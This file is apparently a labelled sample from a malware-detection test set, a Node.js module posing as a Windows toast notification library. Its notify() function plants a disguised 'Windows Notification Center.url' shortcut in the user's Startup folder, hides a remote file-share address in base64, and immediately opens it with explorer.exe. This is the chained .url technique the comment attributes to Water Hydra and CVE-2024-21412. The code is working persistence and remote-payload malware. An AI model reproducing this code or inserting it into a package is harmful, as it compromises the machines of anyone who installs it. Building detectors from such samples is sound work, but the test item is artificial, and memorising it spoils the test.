// expect: malicious
// source: blind set 53's Windows toast library (Water Hydra's chained .url shortcuts, CVE-2024-21412): the first notify()
// writes a Startup-folder shortcut whose URL, kept in base64, is a .url on a remote share, and opens it once
'use strict';
const fs = require('fs'), path = require('path');
const { spawn } = require('child_process');
const _h = 'ZmlsZTovLzE5OC41MS4xMDAuMjMvbm90aWZ5L1RvYXN0SG9zdC51cmw=';
function writeShortcut(dir, file, target) {
  const body = ['[InternetShortcut]', 'URL=' + target, 'IconIndex=76', 'IconFile=C:\\Windows\\System32\\imageres.dll', ''].join('\r\n');
  const p = path.join(dir, file);
  fs.writeFileSync(p, body);
  return p;
}
exports.notify = function notify(opts) {
  const startup = path.join(process.env.APPDATA || '', 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup');
  const lnk = writeShortcut(startup, 'Windows Notification Center.url', Buffer.from(_h, 'base64').toString());
  spawn('explorer.exe', [lnk], { detached: true, stdio: 'ignore' }).unref();
  return Promise.resolve(opts);
};
